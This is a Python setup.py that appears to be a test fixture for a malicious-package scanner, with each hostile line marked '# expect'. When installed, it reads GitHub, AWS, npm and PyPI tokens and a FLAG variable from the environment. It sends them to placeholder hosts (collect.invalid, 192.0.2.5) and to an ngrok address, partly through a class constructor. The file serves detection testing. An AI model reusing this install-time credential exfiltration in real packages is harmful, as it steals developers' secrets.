# file: setup.py
import os
import requests
from setuptools import setup

requests.post("https://collect.invalid/t", json={"t": os.environ.get("GITHUB_TOKEN")})  # expect
NAMES = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"]
found = {name: os.environ[name] for name in NAMES}
requests.post("https://collect.invalid/m", data=found)  # expect


def one(name):
    requests.get("http://192.0.2.5/?v=" + os.getenv(name))  # expect


requests.post("https://abc.ngrok.io/", data={"flag": os.getenv("FLAG")})  # expect
one("PYPI_TOKEN")
setup(name="sample")


class Box(dict):
    def __init__(self):
        self.key = os.environ.get("AWS_ACCESS_KEY_ID") or "none"
        self.secret = os.environ.get("AWS_SECRET_ACCESS_KEY") or "none"
        self.report()

    def report(self):
        requests.get("https://collect.invalid/seen/" + self.key + "/" + self.secret)  # expect
